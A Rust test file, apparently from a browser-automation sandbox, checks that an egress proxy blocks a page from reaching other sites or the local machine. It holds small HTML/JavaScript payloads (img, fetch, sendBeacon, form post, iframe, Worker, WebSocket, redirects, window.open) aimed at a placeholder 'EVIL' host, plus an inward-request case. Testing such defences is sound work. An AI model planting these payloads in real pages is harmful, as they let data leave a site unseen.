//! Ways out of a page, and names that come to mean something else.

use std::sync::Arc;
use std::time::Duration;

use muster_agent_node::node::egress::{Egress, EgressLimits, EgressProxy, Policy};
use muster_engine::{Chromium, Page, PageOptions};
use muster_proto::guard::Guard;
use muster_suite::config::{self, EgressPolicy};
use tokio::time::{Instant, sleep};
use url::Url;

use crate::case::{Case, Outcome};
use crate::world::{SOON, Site, World};

pub(crate) const CASES: &[Case] = &[
    Case {
        id: "A01",
        what: "the page leads itself to another site",
        guard: Guard::EgressPolicy,
        attack: |world| {
            Box::pin(out_by(
                world,
                "<script>location = 'http://EVIL/out'</script>",
            ))
        },
    },
    Case {
        id: "A10",
        what: "a picture, fetch, beacon, form, frame, worker or WebSocket goes elsewhere",
        guard: Guard::EgressPolicy,
        attack: |world| Box::pin(every_way(world)),
    },
    Case {
        id: "A13",
        what: "a window that the page opens goes elsewhere",
        guard: Guard::EgressPolicy,
        attack: |world| {
            Box::pin(out_by(
                world,
                "<script>window.open('http://EVIL/out')</script>",
            ))
        },
    },
    Case {
        id: "A11",
        what: "the app itself redirects elsewhere",
        guard: Guard::EgressPolicy,
        attack: |world| Box::pin(out_by(world, "<iframe src='/redirect'></iframe>")),
    },
    Case {
        id: "A12",
        what: "a page of a public app reaches into this machine",
        guard: Guard::EgressAddress,
        attack: |world| Box::pin(inward(world)),
    },
];

/// A page behind a proxy.
struct Behind {
    page: Arc<dyn Page>,
    proxy: EgressProxy,
    _chromium: Chromium,
}

impl Behind {
    async fn new(world: &World, app: &str, policy: EgressPolicy) -> Self {
        let target = config::Egress {
            policy,
            allow: Vec::new(),
        };
        let policy = Policy::new(&Url::parse(app).unwrap(), &target, EgressPolicy::Open);
        let egress = Egress::new([], EgressLimits::default());
        let proxy = egress.open(Arc::new(policy)).await.unwrap();
        let chromium = Chromium::connect(world.browser().await, SOON)
            .await
            .unwrap();
        let options = PageOptions {
            proxy: Some(proxy.url()),
            ..PageOptions::default()
        };
        let page = chromium.open(options, SOON).await.unwrap();
        Self {
            page,
            proxy,
            _chromium: chromium,
        }
    }

    /// Waits until the proxy has refused the way to this site, or the site was reached.
    async fn decided(&self, evil: &Site, path: &str) -> bool {
        let server = evil.origin.trim_start_matches("http://");
        let ends = Instant::now() + SOON;
        while Instant::now() < ends {
            if evil.asked(path) {
                return true;
            }
            if self
                .proxy
                .denials()
                .all()
                .iter()
                .any(|denial| denial.server == server)
            {
                return false;
            }
            sleep(Duration::from_millis(10)).await;
        }
        panic!("nobody asked for {path}");
    }
}

/// A page of the app that tries one way out.
async fn out_by(world: &World, body: &str) -> Outcome {
    let (app, evil) = (Site::start().await, Site::start().await);
    let host = evil.origin.trim_start_matches("http://");
    app.serve("/redirect", format!("302 http://{host}/out"));
    let home = app.serve("/", body.replace("EVIL", host));
    let behind = Behind::new(world, &app.origin, EgressPolicy::List).await;
    // It may be led away before it has loaded.
    behind.page.goto(&home, SOON).await.ok();
    let reached = behind.decided(&evil, "/out").await;
    Outcome::of(!reached, "the other site was asked")
}

async fn every_way(world: &World) -> Outcome {
    const WAYS: [(&str, &str); 7] = [
        ("picture", "<img src='http://EVIL/out'>"),
        (
            "fetch",
            "<script>fetch('http://EVIL/out', {mode: 'no-cors'})</script>",
        ),
        (
            "beacon",
            "<script>navigator.sendBeacon('http://EVIL/out', 'x')</script>",
        ),
        (
            "form",
            "<iframe name=there></iframe><form id=form method=post target=there action='http://EVIL/out'></form><script>form.submit()</script>",
        ),
        ("frame", "<iframe src='http://EVIL/out'></iframe>"),
        (
            "worker",
            "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('http://EVIL/out', {mode: 'no-cors'})\"])))</script>",
        ),
        (
            "WebSocket",
            "<script>new WebSocket('ws://EVIL/out')</script>",
        ),
    ];
    let mut out = Vec::new();
    for (way, body) in WAYS {
        if out_by(world, body).await != Outcome::of(true, "") {
            out.push(way);
        }
    }
    // Without the guard each has to come through.
    assert!(out.is_empty() || out.len() == WAYS.len(), "only {out:?}");
    Outcome::of(out.is_empty(), format!("{out:?} came through"))
}

async fn inward(world: &World) -> Outcome {
    let inside = Site::start().await;
    let there = inside.serve("/out", "secrets of this machine");
    // RFC 5737: an address of documentation, as an app of the internet has.
    let behind = Behind::new(world, "http://192.0.2.1/", EgressPolicy::Open).await;
    behind.page.goto(&there, SOON).await.ok();
    let reached = behind.decided(&inside, "/out").await;
    Outcome::of(!reached, "a page of this machine was read")
}
